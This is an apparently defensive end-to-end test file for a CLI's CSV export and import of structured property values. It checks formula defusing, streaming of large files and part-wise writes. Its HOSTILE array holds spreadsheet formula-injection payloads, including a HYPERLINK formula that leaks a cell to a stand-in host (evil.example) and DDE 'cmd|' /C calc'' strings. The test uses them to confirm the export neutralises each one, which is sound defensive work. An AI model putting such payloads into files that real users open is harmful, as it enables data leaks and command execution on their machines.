/**
 * `propgraph values export` and `values import` end to end (issue #46 items 8 and 16):
 * the built CLI as a subprocess against a real server.
 * - Values a spreadsheet would run as formulas are exported with a `'` before them
 *   (OWASP's advice), and the exported file imports back to the same values.
 * - An import reads its file as a stream: a file far larger than the CLI's heap is
 *   refused, within that heap, once it has more rows than one import takes (the
 *   whole-file reader ran out of memory on it); with --in-parts a file larger than one
 *   import is checked whole and written in parts, and a part refused at its write says
 *   which parts are written.
 * - Values come back exactly as exported (spaces and a leading tab included).
 */
import { rmSync } from 'node:fs';
import { formatCsvRecord, parseCsv } from '../../src/cli/files/csvFile.js';
import { createDatasets, setProperties } from '../support/fixtures.js';
import { enc, http } from '../support/http.js';
import { interceptingProxy } from '../support/interceptingProxy.js';
import { searchAvailableForTests, startTestServer, type TestServer } from '../support/server.js';
import { ensureCliBuilt, runCli, tempDir, writeFile, type CliResult } from './cliRunner.js';
import { nonEmpty } from '../support/nonEmpty.js';

let server: TestServer;
let home: string;

const NOTES = 'urn:li:structuredProperty:io.csv.notes';
const dataset = (name: string) => `urn:li:dataset:(urn:li:dataPlatform:hive,csv.${name},PROD)`;
const cli = (args: string[], env?: Record<string, string>): Promise<CliResult> => runCli(args, { home, server: server.url, ...(env ? { env } : {}) });
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|...', "'quoted already", 'plain', '\t=1+1', ' padded '];

async function notesOf(urn: string): Promise<unknown> {
  const res = await http(server.url, 'GET', `/openapi/v3/entity/dataset/${enc(urn)}/structuredProperties`);
  return (res.body?.structuredProperties?.value?.properties ?? []).find((p: { propertyUrn: string }) => p.propertyUrn === NOTES)?.values;
}

(searchAvailableForTests() ? describe : describe.skip)('values as CSV', () => {
  beforeAll(async () => {
    await ensureCliBuilt();
    server = await startTestServer({ search: true });
    home = tempDir();
    for (const [id, cardinality] of [['io.csv.notes', 'SINGLE'], ['io.csv.wide', 'MULTIPLE']]) {
      const res = await http(server.url, 'POST', `/openapi/v3/entity/structuredProperty/${enc(`urn:li:structuredProperty:${id}`)}/propertyDefinition`, {
        json: { value: { qualifiedName: id, valueType: 'urn:li:dataType:datahub.string', entityTypes: ['urn:li:entityType:datahub.dataset'], cardinality } },
      });
      expect(res.status).toBe(200);
    }
    await createDatasets(server.url, HOSTILE.map((_, i) => dataset(`h${i}`)));
    for (const [i, value] of nonEmpty(HOSTILE.entries())) expect((await setProperties(server.url, dataset(`h${i}`), [{ propertyUrn: NOTES, values: [{ string: value }] }])).status).toBe(200);
  }, 180_000);

  afterAll(async () => {
    await server?.stop();
    if (home) rmSync(home, { recursive: true, force: true });
  });

  test("an export defuses every cell a spreadsheet would run, and imports back to the same values", async () => {
    const exported = await cli(['values', 'export', '--property', 'io.csv.notes']);
    expect(exported.code).toBe(0);
    const records = parseCsv(exported.stdout, 'export.csv');
    expect(records).toHaveLength(HOSTILE.length + 1);
    // Read as a spreadsheet reads it: no cell starts a formula (a quoted one neither, once unquoted).
    expect(exported.stdout).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    expect(exported.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
    expect(exported.stdout).toContain("'+cmd\\|' /C calc'!A0");
    expect(exported.stdout).toContain("''quoted already");
    const file = writeFile(home, 'notes.csv', exported.stdout);
    const imported = await cli(['values', 'import', '-f', file]);
    expect(imported.stderr).toBe('');
    expect(imported.stdout).toContain(`0 entities updated, ${HOSTILE.length} unchanged, in one transaction`);
    for (const [i, value] of nonEmpty(HOSTILE.entries())) expect(await notesOf(dataset(`h${i}`))).toEqual([{ string: value }]);
  }, 120_000);

  test('a file that a spreadsheet saved with a defused cell sets the value without the quote mark', async () => {
    const file = writeFile(home, 'edited.csv', `urn,io.csv.notes\n"${dataset('h5')}",'=1+1\n`);
    const imported = await cli(['values', 'import', '-f', file]);
    expect(imported.code).toBe(0);
    expect(await notesOf(dataset('h5'))).toEqual([{ string: '=1+1' }]);
  }, 60_000);

  test('an import reads its file as a stream: a file many times the size of its heap is refused once it has more rows than an import takes', async () => {
    // 40,000 rows of about 500 characters: 20 MB, four times the rows one import takes.
    const rows = Array.from({ length: 40_000 }, (_, i) => formatCsvRecord([dataset(`big${i}`), `${i}-${'x'.repeat(400)}`]));
    const file = writeFile(home, 'big.csv', `urn,io.csv.notes\n${rows.join('\n')}\n`);
    const checked = await cli(['values', 'import', '-f', file, '--dry-run'], { NODE_OPTIONS: '--max-old-space-size=48' });
    expect(checked.stderr).toMatch(/big\.csv:\d+: the file holds more than one import takes \(at most 10000 rows in a request of 1 MB, written in one server transaction\)\. Split it, or give --in-parts/);
    expect(checked.code).toBe(2);
  }, 120_000);

  test('a file larger than one import is refused naming --in-parts; with it the whole file is checked first and written in parts of 1,000 rows; a part refused at its write says which parts are written', async () => {
    const n = 2_500;
    const urns = Array.from({ length: n }, (_, i) => dataset(`part${i}`));
    for (let i = 0; i < n; i += 1000) await createDatasets(server.url, urns.slice(i, i + 1000));
    // About 1 MB: more than one import's request takes.
    const rows = urns.map((urn, i) => formatCsvRecord([urn, `${i}-${'y'.repeat(300)}`]));
    const file = writeFile(home, 'parts.csv', `urn,io.csv.notes\n${rows.join('\n')}\n`);
    const whole = await cli(['values', 'import', '-f', file]);
    expect(whole.stderr).toMatch(/parts\.csv:\d+: the file holds more than one import takes .*\. Split it, or give --in-parts/);
    expect(whole.code).toBe(2);

    // A bad row in the last part: the whole file is checked first, so nothing is written.
    const bad = writeFile(home, 'parts-bad.csv', `urn,io.csv.notes\n${rows.join('\n')}\n${formatCsvRecord([dataset('nowhere'), 'z'])}\n`);
    const refused = await cli(['values', 'import', '-f', bad, '--in-parts']);
    expect(refused.stderr).toMatch(/parts-bad\.csv:2502: urn:li:dataset:\(urn:li:dataPlatform:hive,csv\.nowhere,PROD\): does not exist/);
    expect(refused.stderr).toMatch(/1 error in .*parts-bad\.csv; nothing was written/);
    expect(refused.code).toBe(2);
    expect(await notesOf(urns[0]!)).toBeUndefined();

    // The definition is soft deleted just before the second part's write arrives: part 1 stays written, and the run says so.
    let writes = 0;
    const proxy = await interceptingProxy(server.url, async (request, body) => {
      if (request.url !== '/api/graphql' || !body?.toString().includes('"dryRun":false')) return;
      if (++writes !== 2) return;
      const removed = await http(server.url, 'POST', `/openapi/v3/entity/structuredProperty/${enc(NOTES)}/status?createIfNotExists=false`, { json: { value: { removed: true } } });
      if (removed.status !== 200) throw new Error(`soft delete failed: ${removed.status}`);
    });
    try {
      const stopped = await runCli(['values', 'import', '-f', file, '--in-parts'], { home, server: proxy.url });
      expect(stopped.stdout).toContain('part 1 of 3 (lines 2-1001): 1000 entities updated, 0 unchanged');
      expect(stopped.stderr).toMatch(/parts\.csv: part 2 of 3 \(lines 1002-2001\) was refused: .*soft deleted.*\. Lines 2-1001 \(parts 1-1\) are written; nothing after them\. Run the command again: rows already written change nothing/);
      expect(stopped.code).not.toBe(0);
    } finally {
      await proxy.close();
    }

    // Restored, the property's values show again: part 1's, and nothing of part 2.
    const restored = await http(server.url, 'POST', `/openapi/v3/entity/structuredProperty/${enc(NOTES)}/status?createIfNotExists=false`, { json: { value: { removed: false } } });
    expect(restored.status).toBe(200);
    expect(await notesOf(urns[0]!)).toEqual([{ string: `0-${'y'.repeat(300)}` }]);
    expect(await notesOf(urns[1000]!)).toBeUndefined();
    const again = await cli(['values', 'import', '-f', file, '--in-parts']);
    expect(again.stderr).toBe('');
    expect(again.stdout).toContain('part 1 of 3 (lines 2-1001): 0 entities updated, 1000 unchanged');
    expect(again.stdout).toContain('part 3 of 3 (lines 2002-2501): 500 entities updated, 0 unchanged');
    expect(again.stdout).toContain('1500 entities updated, 1000 unchanged, in 3 transactions of at most 1000 rows');
    expect(await notesOf(urns[n - 1]!)).toEqual([{ string: `${n - 1}-${'y'.repeat(300)}` }]);
  }, 600_000);

});
